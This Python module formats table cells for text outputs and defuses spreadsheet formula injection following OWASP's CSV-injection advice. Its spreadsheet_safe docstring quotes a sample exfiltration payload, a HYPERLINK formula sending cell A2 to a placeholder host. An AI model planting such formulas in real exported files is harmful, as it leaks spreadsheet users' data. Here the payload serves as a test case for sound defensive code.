"""Cells as every text format shows them: figures rounded for reading, formulas defused.

Shared by the formats of this package. Text cells a spreadsheet would run as a
formula get a leading ``'`` (:func:`spreadsheet_safe`, OWASP's CSV-injection
advice); numbers stay numbers. Imports numpy and pandas only when called.
"""

from __future__ import annotations

import math
import unicodedata
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "FORMULA_STARTS",
    "NO_ROWS",
    "cell",
    "display_width",
    "is_numeric",
    "no_rows",
    "pad",
    "records",
    "spreadsheet_safe",
]

#: First characters that make Excel, WPS or LibreOffice read a cell as a formula
#: (OWASP, "CSV Injection": = + - @, tab and carriage return).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

#: What a table read by people (terminal, Markdown, a page, the atlas) shows when it has
#: no rows, instead of its headers alone; CSV, TSV, JSON and xlsx keep their headers.
NO_ROWS = "无 none"


def no_rows(frame: pd.DataFrame) -> str | None:
    """Return :data:`NO_ROWS` when ``frame`` has no rows (print it instead of the table), else None.

    The one test every renderer for people makes (:mod:`.txt`, :mod:`.md`,
    :mod:`spatial.publish`): headers over nothing read as a table cut off.

    Examples
    --------
    >>> import pandas as pd
    >>> no_rows(pd.DataFrame({"id": []})), no_rows(pd.DataFrame({"id": [1]}))
    ('无 none', None)
    """
    return NO_ROWS if len(frame) == 0 else None


def spreadsheet_safe(value: Any) -> Any:
    r"""Return a text cell a spreadsheet would run as a formula with a leading ``'``.

    Anything that is not a string (numbers, missing values) is returned unchanged.

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x?d="&A2,"click")')
    '\'=HYPERLINK("http://x?d="&A2,"click")'
    >>> spreadsheet_safe("-2+3"), spreadsheet_safe(-2.5), spreadsheet_safe("zone-kcxz")
    ("'-2+3", -2.5, 'zone-kcxz')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def display_width(text: str) -> int:
    """Terminal columns taken by ``text``: CJK (wide) characters take two."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def pad(text: str, width: int, right: bool) -> str:
    """Pad ``text`` to ``width`` terminal columns, on the left when ``right``-aligned."""
    fill = " " * (width - display_width(text))
    return fill + text if right else text + fill


def _decimals(column: str) -> int:
    if column.endswith("_pct"):
        return 2
    if column.endswith("_m") or column == "dist_m":
        return 1
    return 4


def cell(value: Any, column: str) -> str:
    """Return ``value`` as shown for reading: ``-`` when missing, figures rounded by unit."""
    import numpy as np  # noqa: PLC0415

    if value is None or (isinstance(value, float) and math.isnan(value)):
        return "-"
    if isinstance(value, bool | np.bool_):
        return str(bool(value))
    if isinstance(value, float | np.floating):
        text = f"{float(value):.{_decimals(column)}f}"
        # -0.0003 shown at 2 decimals is 0.00, not "-0.00" (a sign with nothing behind it)
        return text[1:] if text.startswith("-") and not text.strip("-0.") else text
    return str(value)


def is_numeric(frame: pd.DataFrame, column: str) -> bool:
    """Whether ``column`` holds numbers (not booleans): right-aligned, never defused."""
    import pandas as pd  # noqa: PLC0415

    return pd.api.types.is_numeric_dtype(frame[column]) and not pd.api.types.is_bool_dtype(
        frame[column]
    )


def records(frame: pd.DataFrame) -> list[dict[str, Any]]:
    """Return the rows of ``frame`` as JSON-ready dicts (numpy scalars unwrapped, NaN -> None)."""
    import numpy as np  # noqa: PLC0415

    clean = frame.astype(object).where(frame.notna(), None)
    return [
        {str(k): (v.item() if isinstance(v, np.generic) else v) for k, v in row.items()}
        for row in clean.to_dict("records")
    ]
